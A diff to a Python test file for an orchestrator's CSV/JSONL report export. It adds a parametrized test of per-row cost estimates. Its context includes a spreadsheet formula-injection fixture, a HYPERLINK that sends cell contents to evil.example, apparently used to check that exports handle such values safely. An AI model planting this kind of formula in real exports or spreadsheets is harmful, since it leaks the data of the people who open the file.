@@ -3,16 +3,19 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from collections.abc import AsyncIterator
 from pathlib import Path
 
+import pytest
+
 from manifests import load
 from orchestrator.items.states import State
 from orchestrator.ledger.keys import Ref
 from orchestrator.ledger.records import Attempt, Item, Spec
-from orchestrator.reports.results import as_csv, as_jsonl
+from orchestrator.reports.results import as_csv, as_jsonl, row
 
 FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"
 COLUMNS = ("prompt", "product", "=2+2", "offset")
@@ -54,3 +57,27 @@ async def test_json_holds_every_value_as_it_is() -> None:
     rows = [json.loads(line) async for line in as_jsonl(items(), COLUMNS)]
     assert rows[0]["prompt"] == FORMULA
     assert rows[0]["remote_id"] == "@SUM(A1:A9)"
+
+
+@pytest.mark.parametrize(
+    ("state", "confirmed", "unknown", "most"),
+    [
+        (State.WAITING, 0, 0, 0.4),
+        (State.RENDERING, 0, 400_000, 0.4),
+        (State.WAITING, 0, 400_000, 0.8),  # a new attempt after one that failed
+        (State.ARCHIVED, 800_000, 0, 0.8),  # and that was made too: both are paid
+        (State.FAILED, 0, 0, 0.4),
+    ],
+)
+def test_what_a_row_may_cost_is_never_less_than_what_was_paid_for_it(
+    state: State, confirmed: int, unknown: int, most: float
+) -> None:
+    """The rows then add up to what the batch says."""
+    money = {"price": "400000", "confirmed": str(confirmed), "unknown": str(unknown), "bytes": "1"}
+    whole = dataclasses.replace(item("hero", "A mug"), state=state, fields=money)
+    found = row(whole, ())
+    assert (found["estimated_usd"], found["confirmed_usd"], found["unknown_usd"]) == (
+        most,
+        confirmed / 1e6,
+        unknown / 1e6,
+    )
